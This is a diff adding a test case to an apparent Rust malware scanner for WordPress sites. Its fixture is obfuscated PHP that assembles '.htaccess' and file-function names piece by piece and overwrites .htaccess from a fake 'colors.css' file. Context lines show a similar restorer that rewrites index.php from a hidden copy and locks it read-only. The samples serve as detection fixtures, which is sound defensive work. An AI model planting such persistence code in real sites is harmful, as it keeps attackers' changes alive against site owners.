@@ -246,6 +246,16 @@ fn code_put_back_from_a_picture_is_a_restorer() {
                 $keep = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/themes/t/include/index.jsc';\n\
                 if (filesize($index) != filesize($keep)) { @unlink($index); @file_put_contents($index, file_get_contents($keep)); @chmod($index, 0444); }";
     assert_eq!(found(root), [Why::RestoresFromDisguise]);
+    // The names and paths spelled a piece at a time, the calls made through `call_user_func`
+    // (fresh37's restorer in a fake theme folder).
+    let pieces = r#"<?php $r = $_SERVER["DOCUMENT_ROOT"]; $h = $r."/.h"."t"."a"."cc"."es"."s";
+$b = $r.'/'.'w'.'p'.'-'.'a'.'d'.'m'.'i'.'n'.'/'.'c'.'s'.'s'.'/'.'c'.'o'.'l'.'o'.'r'.'s'.'.'.'c'.'s'.'s';
+$p = "f"."i"."l"."e"."_p"."ut"."_c"."on"."te"."nt"."s"; $g = "f"."il"."e_"."ge"."t_"."con"."te"."nt"."s";
+@call_user_func($p, $h, @call_user_func($g, $b));"#;
+    assert_eq!(found(pieces), [Why::RestoresFromDisguise]);
+    // Another function called so, or a style sheet written from a picture, is not.
+    assert!(found(&pieces.replace("@call_user_func($p, $h", "@call_user_func('strlen', $h")).is_empty());
+    assert!(found(&pieces.replace(r#"$h = $r."/.h"."t"."a"."cc"."es"."s";"#, r#"$h = $r."/a"."."."css";"#)).is_empty());
 }
 
 #[test]
